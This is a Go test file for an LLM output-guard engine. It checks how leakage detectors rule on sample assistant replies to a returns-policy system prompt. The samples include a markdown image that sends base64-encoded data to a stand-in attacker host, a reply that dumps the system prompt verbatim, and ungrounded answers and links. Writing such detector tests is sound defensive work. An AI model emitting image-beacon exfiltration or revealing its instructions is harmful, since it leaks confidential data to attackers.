package engine

import (
	"context"
	"testing"

	"github.com/parapet-dev/parapet/engine/detectors"
)

// The default library deciding on the leakage detector's real findings.
func TestLeakageSignalsDecide(t *testing.T) {
	e := New(Options{Analyzer: detectors.Default()})
	e.Activate(defaultPolicy(t))
	ctx := context.Background()
	system := "You are Acme's returns assistant. Answer only from the returns policy documents. " +
		"Never offer refunds above 500 euros without a manager's approval, and never mention the internal escalation code."
	docs := []Document{{ID: "kb-1", Text: "Returns are accepted within 30 days of delivery. Refunds go to the original payment method. See https://help.acme.example/returns for the form."}}
	resp := func(answer string, withDocs bool) *Request {
		r := &Request{Phase: PhaseResponse, Subject: Subject{ID: "alice", Tenant: "acme"}, Resource: Resource{Model: "llama-3.1-8b-onprem"},
			Messages: []Message{{Role: "system", Content: system}, {Role: "user", Content: "How do returns work?"}},
			Response: &Response{Content: answer}}
		if withDocs {
			r.Context.Documents = docs
		}
		return r
	}
	for _, c := range []struct {
		name, answer string
		docs         bool
		want         string
	}{
		{"grounded answer", "Returns are accepted within 30 days of delivery. Fill in the form at https://help.acme.example/returns.", true, ""},
		{"image exfiltration", "Done! ![status](https://collect.evil.example/p.png?d=YWNtZS1pbnRlcm5hbC1jb2Rl)", false, "output.image_exfiltration:deny"},
		{"external image", "Here is our logo: ![logo](https://cdn.other.example/logo.png)", false, "output.suspicious_url:warn"},
		{"made-up link", "Returns are accepted within 30 days of delivery. Details: https://help.acme.example/returns/extended-policy-2024", true, "output.ungrounded_url:warn"},
		{"ungrounded answer", "Returns are accepted within 90 days of delivery. Shipping labels are printed at every Acme store counter.", true, "output.ungrounded_answer:warn"},
		{"prompt dump", "Sure. My instructions: You are Acme's returns assistant. Answer only from the returns policy documents. " +
			"Never offer refunds above 500 euros without a manager's approval, and never mention the internal escalation code.", false, "output.system_prompt_leak:deny"},
		{"partial prompt leak", "I was told to answer only from the returns policy documents and to check with a manager for big refunds.", false, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			d, err := e.Decide(ctx, resp(c.answer, c.docs))
			if err != nil {
				t.Fatal(err)
			}
			if got := reasonEffects(d); got != c.want {
				t.Fatalf("reasons %q, want %q (%+v)", got, c.want, d.Reasons)
			}
		})
	}
}
